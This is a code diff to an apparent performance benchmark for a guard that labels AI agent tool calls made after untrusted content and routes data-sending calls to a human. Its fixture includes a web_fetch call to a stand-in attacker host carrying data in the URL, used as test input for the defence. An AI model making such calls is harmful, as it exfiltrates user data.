@@ -17,6 +17,8 @@ import { createToolgate } from "../toolgate.js";
 import { fmt, interleaved, report } from "./harness.js";
 
 const ROUNDS = 3000;
+/** Which of CALLS send data out after untrusted content (the guard raises them to ask). */
+const SINKS = new Set([0, 3, 5]);
 
 const CALLS: { name: string; args: Record<string, unknown> }[] = [
   { name: "web_fetch", args: { url: "https://attacker.example/c?d=1" } },
@@ -66,22 +68,39 @@ export default async function run(): Promise<void> {
       const invocation = tool.build(call.args);
       return { tool, invocation, args: call.args, risk: invocation.riskFor() };
     });
-    let i = 0;
-    let j = 0;
-    const [ours, anchor] = await interleaved(
-      () => withLabels.decide({ ...requests[i++ % requests.length]!, context }),
-      () => without.decide(requests[j++ % requests.length]!),
-      ROUNDS * requests.length,
-    );
-    const ratio = ours.p50 / anchor.p50;
-    report({
-      name: `decide with labels (guard on, tainted context) vs without, ${CALLS.length} calls × ${ROUNDS}`,
-      ours: `p50 ${fmt(ours.p50)} p99 ${fmt(ours.p99)}`,
-      anchor: `same calls, same engine without labels: p50 ${fmt(anchor.p50)} p99 ${fmt(anchor.p99)} (p99 ratio ${(ours.p99 / anchor.p99).toFixed(2)}×)`,
-      ratio,
-      target: "≤ 1.2× at p50",
-      pass: ratio <= 1.2,
-    });
+    // The requests with the context are made once, as a session's call is: the timed step is the decision.
+    const tainted = context;
+    const clean = FlowSession.from({ trustedHosts: ["docs.example.com"] });
+    const lines = [
+      { what: "tainted context (untrusted, public)", context: tainted, calls: requests },
+      // The calls the guard leaves alone after untrusted content: what a tainted session pays on every
+      // call that is not asked about anyway (a sink's raised ask waits for a person).
+      {
+        what: "tainted context, calls that send nothing out",
+        context: tainted,
+        calls: requests.filter((_, k) => !SINKS.has(k)),
+      },
+      { what: "clean context (nothing untrusted read)", context: clean, calls: requests },
+    ];
+    for (const line of lines) {
+      const ours = line.calls.map((request) => ({ ...request, context: line.context }));
+      let i = 0;
+      let j = 0;
+      const [withStats, anchor] = await interleaved(
+        () => withLabels.decide(ours[i++ % ours.length]!),
+        () => without.decide(line.calls[j++ % line.calls.length]!),
+        ROUNDS * line.calls.length,
+      );
+      const ratio = withStats.p50 / anchor.p50;
+      report({
+        name: `decide with labels (guard on, ${line.what}) vs without, ${line.calls.length} calls × ${ROUNDS}`,
+        ours: `p50 ${fmt(withStats.p50)} p99 ${fmt(withStats.p99)}`,
+        anchor: `same calls, same engine without labels: p50 ${fmt(anchor.p50)} p99 ${fmt(anchor.p99)} (p99 ratio ${(withStats.p99 / anchor.p99).toFixed(2)}×)`,
+        ratio,
+        target: "≤ 1.2× at p50",
+        pass: ratio <= 1.2,
+      });
+    }
   } finally {
     await gate.close();
     await rm(root, { recursive: true, force: true });
